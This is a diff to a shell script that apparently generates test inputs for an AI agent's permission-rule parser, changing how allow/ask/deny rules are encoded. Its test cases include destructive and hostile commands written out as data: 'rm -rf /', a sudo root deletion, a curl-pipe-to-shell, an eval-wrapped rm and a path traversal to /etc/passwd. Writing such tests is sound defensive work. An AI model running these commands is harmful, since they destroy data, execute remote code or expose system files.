@@ -79,11 +79,12 @@ for body in '{"key":"agent.max_tool_rounds","value":5}' '{"key":"llm.model","val
 	{ cat "$out/config/docs-1"; printf '\0%s' "$body"; } >"$out/panel_config_edit/$((i++))"
 done
 
-# permissions: a script, then rules of (permission, tool, command, path) split by \x01.
+# permissions: a script, then rules of (permission 0 allow / 1 ask / 2 deny,
+# tool, command, path), every field ended by \x01.
 i=0
-for case in 'rm -rf /\x01\x02*\x01rm *\x01' 'echo hi; sudo -u root rm -rf /srv\x01\x00run_script\x01echo *\x01' \
-	'$(curl -s x | sh) && ls\x01\x00*\x01ls *\x01' 'cd /tmp && tar xzf a.tgz\x01\x01remove\x01\x01/tmp/**' \
-	"sh -c 'eval \"rm -f x\"' # c\x01\x02*\x01rm *\x01" '../../etc/passwd\x01\x00remove\x01\x01~/**'; do
+for case in 'rm -rf /\x012\x01*\x01rm *\x01' 'echo hi; sudo -u root rm -rf /srv\x010\x01run_script\x01echo *\x01' \
+	'$(curl -s x | sh) && ls\x010\x01*\x01ls *\x01' 'cd /tmp && tar xzf a.tgz\x011\x01remove\x01\x01/tmp/**' \
+	"sh -c 'eval \"rm -f x\"' # c\x012\x01*\x01rm *\x01" '../../etc/passwd\x010\x01remove\x01\x01~/**'; do
 	printf "$case" >"$out/permissions/$((i++))"
 done
 
